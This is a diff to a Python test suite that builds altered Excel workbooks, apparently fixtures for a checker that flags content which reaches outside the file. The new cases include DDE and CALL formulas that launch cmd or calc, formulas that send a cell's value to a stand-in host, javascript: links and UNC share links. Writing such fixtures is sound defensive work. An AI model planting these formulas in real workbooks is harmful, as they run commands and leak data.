@@ -88,30 +88,39 @@ def name_for(which: str, text: str) -> Change:
     return replace(BOOK, old, f'<definedName name="{which}">{escape(text)}<')
 
 
+OPEN_XML = "http://schemas.openxmlformats.org"
+MAIN = f'xmlns="{OPEN_XML}/spreadsheetml/2006/main"'
+NO_LINKS = f'<Relationships xmlns="{OPEN_XML}/package/2006/relationships"></Relationships>'
+
+
+def link(part: str, target: str, kind: str, more: str = "") -> Change:
+    """Another link in *part*, a list of links: rId50."""
+    of = kind if "://" in kind else f"{OPEN_XML}/officeDocument/2006/relationships/{kind}"
+    added = f'<Relationship Id="rId50" Type="{of}" Target="{target}"{more}/>'
+    return insert_before(part, "</Relationships>", added)
+
+
+def outside(part: str, target: str, kind: str) -> Change:
+    """A link out of the file."""
+    return link(part, target, kind, ' TargetMode="External"')
+
+
+def typed(part: str, kind: str) -> Change:
+    of = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"
+    return insert_before(TYPES, "</Types>", f'<Override PartName="/{part}" ContentType="{of}"/>')
+
+
 def pivot(cache: str, items: str, shown: str = "0") -> tuple[Change, ...]:
     """A pivot table of *cache* that shows one item, and cache 1 with *items* for one."""
     table, held = "xl/pivotTables/pivotTable1.xml", "xl/pivotCache/pivotCacheDefinition1.xml"
-    open_xml = "http://schemas.openxmlformats.org"
-    main = f'xmlns="{open_xml}/spreadsheetml/2006/main"'
-
-    def link(part: str, target: str, kind: str) -> Change:
-        where = f'Type="{open_xml}/officeDocument/2006/relationships/{kind}" Target="{target}"'
-        return insert_before(part, "</Relationships>", f'<Relationship Id="rId50" {where}/>')
-
-    def typed(part: str, kind: str) -> Change:
-        of = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"
-        return insert_before(
-            TYPES, "</Types>", f'<Override PartName="/{part}" ContentType="{of}"/>'
-        )
-
-    links = f'<Relationships xmlns="{open_xml}/package/2006/relationships"></Relationships>'
+    links = NO_LINKS
     table_links = "xl/pivotTables/_rels/pivotTable1.xml.rels"
     location = '<location ref="A9:B9" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/>'
     fields = f'<pivotField><items count="1"><item x="{shown}"/></items></pivotField>'
     field = f'<cacheField name="f"><sharedItems count="1">{items}</sharedItems></cacheField>'
     return (
-        put(table, f'<pivotTableDefinition {main} name="p" cacheId="{cache}">{location}<pivotFields count="1">{fields}</pivotFields></pivotTableDefinition>'),
-        put(held, f'<pivotCacheDefinition {main}><cacheSource type="external"/><cacheFields count="1">{field}</cacheFields></pivotCacheDefinition>'),
+        put(table, f'<pivotTableDefinition {MAIN} name="p" cacheId="{cache}">{location}<pivotFields count="1">{fields}</pivotFields></pivotTableDefinition>'),
+        put(held, f'<pivotCacheDefinition {MAIN}><cacheSource type="external"/><cacheFields count="1">{field}</cacheFields></pivotCacheDefinition>'),
         put(table_links, links),
         link(table_links, "../pivotCache/pivotCacheDefinition1.xml", "pivotCacheDefinition"),
         link(SHEET_LINKS, "../pivotTables/pivotTable1.xml", "pivotTable"),
@@ -120,6 +129,31 @@ def pivot(cache: str, items: str, shown: str = "0") -> tuple[Change, ...]:
         typed(held, "pivotCacheDefinition"),
         replace(BOOK, "</workbook>", '<pivotCaches><pivotCache cacheId="1" r:id="rId50"/></pivotCaches></workbook>'),
     )  # fmt: skip
+
+
+def external(inside: str, target: str = "", kind: str = "") -> tuple[Change, ...]:
+    """A part about other workbooks and programs that holds *inside*."""
+    part, links = (
+        "xl/externalLinks/externalLink1.xml",
+        "xl/externalLinks/_rels/externalLink1.xml.rels",
+    )
+    relationships = f'xmlns:r="{OPEN_XML}/officeDocument/2006/relationships"'
+    return (
+        put(part, f"<externalLink {MAIN} {relationships}>{inside}</externalLink>"),
+        link(BOOK_LINKS, "externalLinks/externalLink1.xml", "externalLink"),
+        typed(part, "externalLink"),
+        put(links, NO_LINKS),
+        *((outside(links, target, kind),) if target else ()),
+        replace(BOOK, "<definedNames>", '<externalReferences><externalReference r:id="rId50"/></externalReferences><definedNames>'),
+    )  # fmt: skip
+
+
+def queries(inside: str) -> tuple[Change, ...]:
+    return (
+        put("xl/connections.xml", f"<connections {MAIN}>{inside}</connections>"),
+        link(BOOK_LINKS, "connections.xml", "connections"),
+        typed("xl/connections.xml", "connections"),
+    )
 
 
 def reorder(part: str, first: str, last: str) -> Change:
@@ -424,5 +458,26 @@ FAULTS: tuple[Fault, ...] = (
     ("another workbook that the file does not link to", "PS565", (formula("[1]Sheet1!A2"),)),
     ("an unquoted sheet that begins with a digit", "PS568", (title("12pm"), name_for("Rate", "12pm!$C$1:$E$12"))),
     ("a name for cells of a sheet that is gone", "PS568", (name_for("Rate", "#REF!$A$1:$B$2"),)),
+    # -- what reaches out --------------------------------------------------------------------------------
+    ("a function that asks the network", "PS580", (formula('_xlfn.WEBSERVICE("https://example.com/?"&A4)'),)),
+    ("a picture that is loaded when the workbook opens", "PS580", (formula('_xlfn.IMAGE("https://example.com/a.png")'),)),
+    ("live data of a program", "PS580", (formula('RTD("a.b",,"c")'),)),
+    ("Python in the cloud", "PS580", (formula("_xlfn._xlws.PY(0,1,A4)"),)),
+    ("a function of a library", "PS580", (formula('CALL("kernel32","WinExec","JCJ","calc",0)'),)),
+    ("a file that a new function reads", "PS580", (formula('_xlfn.IMPORTCSV("https://example.com/a.csv")'),)),
+    ("another program by DDE in a formula", "PS580", (formula("cmd|'/c calc'!A0"),)),
+    ("a link of a formula that runs a script", "PS582", (formula('HYPERLINK("JavaScript:alert(1)","a")'),)),
+    ("a link of a formula to a share", "PS582", (formula('HYPERLINK("\\\\example.com\\share","a")'),)),
+    ("a link of a formula to a file", "PS582", (formula('HYPERLINK("file:///C:/a.exe","a")'),)),
+    ("a link of a formula that carries a cell", "PS582", (formula('HYPERLINK("https://example.com/?"&A4,"a")'),)),
+    ("a link that runs a script", "PS582", (replace(SHEET_LINKS, "https://example.com/", "javascript:alert(1)"),)),
+    ("a link to a share", "PS582", (replace(SHEET_LINKS, "https://example.com/", "file:///%5C%5Cexample.com%5Cshare"),)),
+    ("a picture at an address", "PS581", (outside("xl/drawings/_rels/drawing1.xml.rels", "https://example.com/a.png", "image"),)),
+    ("another workbook", "PS581", external('<externalBook r:id="rId50"/>', "file:///C:/a.xlsx", "externalLinkPath")),
+    ("another program by DDE", "PS581", external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
+    ("another program by OLE", "PS581", external('<oleLink r:id="rId50" progId="Word.Document"/>', "file:///C:/a.docx", "oleObject")),
+    ("a query to the web", "PS581", queries('<connection id="1" name="q" type="4" refreshedVersion="6"><webPr url="https://example.com/"/></connection>')),
+    ("a query to a database", "PS581", queries('<connection id="1" name="q" type="1" refreshedVersion="6"><dbPr connection="DSN=x"/></connection>')),
+    ("an add-in of the web", "PS581", (link("_rels/.rels", "xl/webextensions/taskpanes.xml", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"), put("xl/webextensions/taskpanes.xml", "<taskpanes/>"))),
 )  # fmt: skip
 """Titles are unique: they name the tests."""
